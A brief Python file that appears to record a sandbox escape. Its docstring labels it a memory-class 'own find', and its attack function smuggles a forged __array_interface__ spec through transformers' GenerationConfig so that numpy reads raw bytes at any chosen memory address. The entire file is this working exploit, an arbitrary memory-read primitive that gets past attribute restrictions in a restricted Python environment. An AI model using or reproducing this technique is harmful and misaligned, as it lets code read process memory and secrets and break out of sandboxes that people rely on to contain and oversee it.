"""Class: memory. Source: own find. Escape: GenerationConfig sets any attribute by keyword."""

import numpy as np
from transformers import GenerationConfig


def attack(model, tokenizer, address):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    return np.array(GenerationConfig(**{"__array_interface__": spec})).tobytes()
